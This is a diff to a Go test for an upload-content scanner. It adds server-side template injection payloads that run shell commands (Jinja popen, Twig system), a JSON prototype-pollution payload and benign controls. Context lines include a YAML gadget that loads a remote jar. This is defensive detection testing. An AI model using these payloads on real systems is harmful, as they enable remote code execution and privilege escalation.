@@ -70,6 +70,14 @@ func TestUploadContent(t *testing.T) {
 		{"page.xhtml", "application/xhtml+xml", `<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><img src="/logo.png"/></body></html>`, ""},
 		{"readme.html", "text/html", `<p>Open <a href="https://example.com/docs">the docs</a> or the file:// URL your browser shows.</p>`, ""},
 
+		// Template gadgets in any text file; a JSON import is read as a
+		// JSON body.
+		{"u.csv", "text/csv", "email,name\r\nt@acme.com,{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}\r\n", "ssti-engine"},
+		{"invoice.twig", "text/plain", "{{['id']|filter('system')}}", "ssti-engine"},
+		{"users.json", "application/json", `[{"email":"a@b.c","__proto__":{"isAdmin":true}}]`, "xss-prototype-pollution"},
+		{"contacts.json", "application/json", `[{"email":"ann@example.com","name":"Ann O'Neil","tags":["vip"]}]`, ""},
+		{"welcome.html", "text/html", "<h1>Hello {{ user.name }}</h1><p>{% if user.vip %}VIP{% endif %}</p>", ""},
+
 		// YAML with a class tag its loader builds.
 		{"settings.yml", "application/x-yaml", "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://198.51.100.23/y.jar\"]\n  ]]\n]", "deserialization-object"},
 		{"model.yaml", "text/yaml", "--- !ruby/object:Gem::Installer\ni: x\n", "deserialization-object"},
